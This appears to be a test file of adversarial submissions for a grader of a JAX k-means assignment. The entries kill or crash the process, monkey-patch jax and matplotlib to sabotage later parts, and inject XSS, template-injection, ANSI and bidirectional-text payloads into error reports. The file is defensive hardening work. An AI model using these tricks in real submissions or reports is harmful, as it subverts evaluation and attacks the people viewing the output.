# Lifecycle ----------------------------------------------------------------------------------

attack("lifecycle", "exit-the-process", "ends its process with success",
       "import os\nos._exit(0)", success=HELD)
attack("lifecycle", "exit-in-every-part", "the same in a part that others call",
       "import os\nos._exit(0)", part="update_assignment", success=HELD)
attack("lifecycle", "sys-exit", "sys.exit(0)", "import sys\nsys.exit(0)", success=HELD)
attack("lifecycle", "exit-on-deletion", "raises SystemExit and ends the process when deleted", """
       import os
       class Trap:
           def __del__(self):
               os._exit(0)
       held = [Trap()]
       del held
       """, success=HELD)
attack("lifecycle", "atexit", "registers what runs at the end, and ends", """
       import atexit, sys, time
       atexit.register(time.sleep, 600)
       atexit.register(print, "way-is-" + "open")
       sys.exit(0)
       """, success=HELD)
attack("lifecycle", "close-all", "closes all descriptors",
       "import os\nos.closerange(0, 1_000)", success=HELD)
attack("lifecycle", "dup-over-the-socket", "puts /dev/null in the place of the socket", """
       import os
       null = os.open("/dev/null", os.O_RDWR)
       for fd in range(3, 20):
           os.dup2(null, fd)
       """, success=HELD)
attack("lifecycle", "shutdown-the-socket", "closes half of the socket", """
       import os, socket
       for fd in range(3, 20):
           try:
               socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_WR)
           except OSError:
               pass
       """, success=HELD)
attack("lifecycle", "stops-itself", "stops itself with SIGSTOP",
       "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", success=HELD)
attack("lifecycle", "kills-itself", "kills itself with SIGKILL",
       "import os\nos.kill(os.getpid(), 9)", success=HELD)
attack("lifecycle", "segfault", "reads from address 0", "import ctypes\nctypes.string_at(0)")
attack("lifecycle", "abort", "calls abort()", "import os\nos.abort()")
attack("lifecycle", "faulthandler", "crashes with a handler that writes all its frames", """
       import faulthandler, sys
       faulthandler.enable()
       faulthandler._sigsegv()
       """)
attack("lifecycle", "unpairs-frames", "patches the running frame with ctypes", """
       import ctypes
       ctypes.memset(id(visualization), 0xFF, 64)
       ctypes.memset(id(dict), 0, 200)
       """)
attack("lifecycle", "unspeakable-error", "an error whose text raises", """
       class Mute(Exception):
           def __str__(self):
               raise KeyboardInterrupt
           __repr__ = __str__
       raise Mute
       """)
attack("lifecycle", "unnameable-error", "an error whose class has no name", """
       class Meta(type):
           @property
           def __name__(cls):
               raise SystemExit(0)
       class Odd(BaseException, metaclass=Meta):
           pass
       raise Odd
       """)
attack("lifecycle", "error-text-without-end", "an error whose text never ends", """
       class Long(str):
           def __getitem__(self, index):
               return self
           def encode(self, *_):
               return self
           def decode(self, *_):
               return self
       class Loud(Exception):
           __str__ = lambda self: Long("x" * (8 << 20))
       raise Loud
       """)
attack("lifecycle", "keyboard-interrupt", "raises KeyboardInterrupt", "raise KeyboardInterrupt")
attack("lifecycle", "generator-exit", "raises GeneratorExit", "raise GeneratorExit")
attack("lifecycle", "error-group", "raises a group of groups of errors", """
       error = ValueError("x")
       for _ in range(900):
           error = ExceptionGroup("g", [error])
       raise error
       """)
attack("lifecycle", "cell-with-odd-number", "raises from a file called like a cell that is none", """
       for name in ("\\u00b2", "9" * 5_000, "-1", "\\u0663", "1e9", ""):
           try:
               exec(compile("def f():\\n    raise ValueError('x')", f"<cell {name}>", "exec"))
           except ValueError:
               continue
           held = locals()["f"]
           if name == "\\u00b2":
               held()
       """)
attack("lifecycle", "cell-with-long-number", "the same with a number of 5,000 digits", """
       scope = {}
       exec(compile("def f():\\n    raise ValueError('x')", "<cell " + "9" * 5_000 + ">", "exec"),
            scope)
       scope["f"]()
       """)
attack("lifecycle", "line-far-away", "raises from a line that does not exist", """
       scope = {}
       code = compile("\\n" * 60_000 + "def f():\\n    raise ValueError('x')", "<cell 6>", "exec")
       exec(code, scope)
       scope["f"]()
       """)
attack("lifecycle", "odd-number-in-a-cell", "the same while its cell runs, before any call", """
       exec(compile("raise ValueError('x')", "<cell \\u00b2>", "exec"))
       visualization = lambda points, centroids, assignment: odd
       odd = exec(compile("raise ValueError('x')", "<cell \\u00b2>", "exec"))
       """, whole=True)
attack("lifecycle", "traces-everything", "installs tracing and hooks that exit", """
       import os, sys, threading
       sys.excepthook = sys.unraisablehook = lambda *_: os._exit(0)
       def trace(*_):
           raise SystemExit
       sys.settrace(trace)
       sys.setprofile(trace)
       """)

# From part to part --------------------------------------------------------------------------

attack("cross-part", "patched-jax", "a call of part 2 breaks jax.numpy for the parts after it", """
       for name in ("sum", "where", "maximum", "mean", "arange", "sqrt", "asarray"):
           setattr(jnp, name, lambda *_, **__: jnp.zeros(()))
       return None, None
       """, part="update_assignment", success=HELD)
attack("cross-part", "patched-arrays", "a call of part 2 breaks the arrays themselves", """
       kind = type(samples)
       for name in ("sum", "mean", "min", "argmin", "__getitem__"):
           try:
               setattr(jax._src.array.ArrayImpl, name, lambda *_, **__: 0)
           except (AttributeError, TypeError):
               pass
       return None, None
       """, part="update_assignment", success=HELD)
attack("cross-part", "no-modules", "empties sys.modules and the import system", """
       import sys
       for name in list(sys.modules):
           if name.split(".")[0] in ("jax", "numpy", "matplotlib", "inside"):
               sys.modules[name] = None
       sys.meta_path.clear()
       sys.path.clear()
       return None, None
       """, part="update_assignment", success=HELD)
attack("cross-part", "identity-jit", "replaces jax.jit, vmap and while_loop", """
       jax.jit = jax.vmap = lambda f, *_, **__: (lambda *a, **k: None)
       jax.lax.while_loop = lambda *_: None
       jax.make_jaxpr = None
       return None, None
       """, part="update_assignment", success=HELD)
attack("cross-part", "rewrites-later-parts", "defines the later parts anew from inside a call", """
       import gc
       for scope in [globals(), *[d for d in gc.get_objects() if isinstance(d, dict)
                                  and "update_centroids" in d]]:
           for name in ("update_centroids", "improve_centroids", "visualization"):
               scope[name] = lambda *_, **__: None
       return None, None
       """, part="update_assignment", success=HELD)
attack("cross-part", "poisons-the-stand-in", "breaks the right version that the judge puts before "
       "the next part", """
       def update_assignment(samples, centroids):
           raise ValueError

       def update_centroids(samples, assignment, k):
           update_assignment.__code__ = (lambda *_: (None, None)).__code__
           update_assignment.__globals__["jnp"] = None
           return None
       """, part="update_centroids", whole=True, success=HELD,
       expects={"update_assignment": NO_POINTS})
attack("cross-part", "options", "sets every option of JAX", """
       for name in ("jax_platforms", "jax_disable_jit", "jax_debug_nans", "jax_log_compiles",
                    "jax_default_device", "jax_numpy_dtype_promotion"):
           try:
               jax.config.update(name, "strict")
               jax.config.update(name, True)
           except Exception:
               pass
       return None, None
       """, part="update_assignment", success=HELD)
attack("cross-part", "patched-plots", "part 3 breaks matplotlib for part 5", """
       plt.scatter = plt.plot = lambda *_, **__: None
       plt.close = None
       return None
       """, part="update_centroids", success=HELD)
attack("cross-part", "cleared-collector", "breaks the collector of figures from an earlier part", """
       import sys
       figures = beside()["figures"]
       figures._drawn = None
       figures.clear = figures.collect = lambda **_: {}
       return None
       """, part="update_centroids", success=HELD)

# Reports ------------------------------------------------------------------------------------

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "style": "</style><style>*{display:none}</style></code></pre></details>",
    "attribute": "' onmouseover='alert(1)' x='",
    "template": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}${7*7}",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b31m\x08\x08",
    "bidi": "\u202egnp.exe\u2066\u2069\u200f\u061c",
    "lines": "a\r\n::error::owned\n=cmd()\n%0A\x0b\x0c\x85\u2028\u2029",
    "surrogate": "\ud800\udfff\x00\ufffe",
    "zalgo": "z" + "\u0335\u0301" * 60,
    "markdown": "[x](javascript:alert(1)) ![y](http://127.0.0.1/y.png) <!-- --> ]]> &#60;b&#62;",
}
for name, text in HOSTILE.items():
    attack("report", f"error-with-{name}", f"an error whose text holds {name}",
           f"raise ValueError({ascii(text)} * 3)", success="the report acts on the text")
attack("report", "class-with-markup", "errors and values whose class is named in markup", """
       raise type("<script>alert(1)</script>\\x1b[31m\\u202e", (Exception,), {})("x")
       """, success="the report acts on the text")
attack("report", "type-with-markup", "returns an object whose type is named in markup", """
       return type("<img src=x onerror=alert(1)>\\x1b[31m", (), {})(), 0
       """, part="update_assignment", success="the report acts on the text")
attack("report", "keys-with-markup", "returns a dictionary with markup for keys", """
       return {"<script>alert(1)</script>": 1, "\\x1b[2J": {"</table>": 2}, 3: 4}
       """, part="update_centroids", success="the report acts on the text")
attack("report", "strings-with-markup", "returns strings of markup, in arrays too", """
       text = "<svg onload=alert(1)>\\u202e"
       return text, np.array([text] * len(samples))
       """, part="update_assignment", success="the report acts on the text")
attack("report", "figure-with-markup", "writes markup into a figure", """
       plt.title("<script>alert(1)</script>")
       plt.text(0, 0, "<img src=x onerror=alert(1)>")
       plt.plot([1e9], [1e9], "x", label="$\\\\frac{{{1}}}$")
       """, success="the report acts on the text")
attack("report", "code-with-markup", "markup in the lines that the report shows", """
       # </code></pre><script>alert(1)</script> \u202e {{7*7}}
       text = "<img src=x onerror=alert(1)>"; raise ValueError  # ' onclick='alert(1)'
       """, success="the report acts on the text")
attack("report", "names-in-letters-of-all-kinds", "identifiers that look like others", """
       def visualization(points, centroids, assignment):
           \u0440\u043e\u0456nts\u202c = 1
       """.replace("\u202c", ""), whole=True, success="the report acts on the text")
attack("report", "cell-magic-with-markup", "magics and shell lines with markup", """
       !echo "<script>alert(1)</script>" > /tmp/@MARK@
       %%html
       <script>alert(1)</script>
       """, whole=True, success="the report acts on the text")

# Traced programs ----------------------------------------------------------------------------

from attacks import programs  # noqa: E402, F401  (adds its own)
